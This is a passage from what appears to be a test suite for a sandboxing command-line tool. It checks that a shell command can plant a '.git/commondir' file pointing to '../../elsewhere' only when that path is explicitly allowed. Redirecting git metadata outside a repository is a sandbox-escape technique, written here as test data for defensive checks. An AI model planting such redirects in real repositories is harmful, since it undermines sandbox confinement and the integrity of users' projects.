    assert not os.path.lexists(jail / ".git" / "commondir")
    p = run_cli(jail, "/bin/sh", "-c", plant, extra=[*extra, *_allowing(".git/commondir")])
    assert_ok(p)
    os.chmod(jail, 0o755)
    assert (jail / ".git" / "commondir").read_text() == "../../elsewhere\n"
